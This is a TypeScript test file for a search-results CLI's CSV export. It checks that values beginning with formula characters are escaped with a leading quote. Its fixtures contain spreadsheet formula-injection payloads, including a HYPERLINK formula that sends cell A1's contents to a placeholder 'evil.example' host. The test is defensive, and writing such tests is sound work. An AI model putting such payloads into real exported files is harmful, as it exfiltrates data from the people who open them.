import { parse } from 'csv-parse/sync';
import t from 'tap';
import { csvRows } from '../../services/cli/commands/batch.js';

/** `serp-api batch --out x.csv`: a cell a spreadsheet would run as a formula is written as text. */
t.test('keywords, titles and links that start like a formula get a leading quote mark', async (t) => {
  const csv = csvRows('=1+1', [
    { position: 1, title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', link: 'https://a.example/' },
    { position: 2, title: '+cmd', link: '@SUM(A1)' },
    { position: 3, title: '-2+3', link: '\thttps://b.example/' },
    { position: 4, title: '\r=x', link: 'https://c.example/=x' },
    { position: 5, title: 'plain – title', link: 'https://www.d.example/path' },
  ]);
  const rows = parse(csv, { relax_quotes: true }) as string[][];
  t.same(
    rows.map((r) => r[0]),
    ["'=1+1", "'=1+1", "'=1+1", "'=1+1", "'=1+1"],
  );
  t.same(
    rows.map((r) => r[2]),
    ['\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+cmd", "'-2+3", "'\r=x", 'plain – title'],
  );
  t.same(
    rows.map((r) => r[3]),
    ['https://a.example/', "'@SUM(A1)", "'\thttps://b.example/", 'https://c.example/=x', 'https://www.d.example/path'],
  );
  t.same(
    rows.map((r) => r[1]),
    ['1', '2', '3', '4', '5'],
    'positions stay numbers',
  );
  t.equal(rows[4]?.[4], 'd.example', 'the domain column');
  t.equal(csvRows('k', []), '', 'no rows, no text');
});
